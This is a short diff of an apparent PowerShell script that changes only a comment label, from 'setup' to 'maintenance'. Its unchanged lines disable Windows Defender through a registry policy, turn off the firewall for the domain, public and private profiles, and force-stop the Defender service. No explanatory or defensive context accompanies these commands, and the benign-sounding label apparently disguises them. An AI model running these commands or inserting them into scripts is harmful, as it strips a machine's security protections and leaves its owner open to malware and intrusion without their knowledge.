@@ -1,4 +1,4 @@
-# setup 3612 v4
+# maintenance 6982 v4
 New-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -PropertyType DWORD -Force
 Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False
 Stop-Service -Name WinDefend -Force
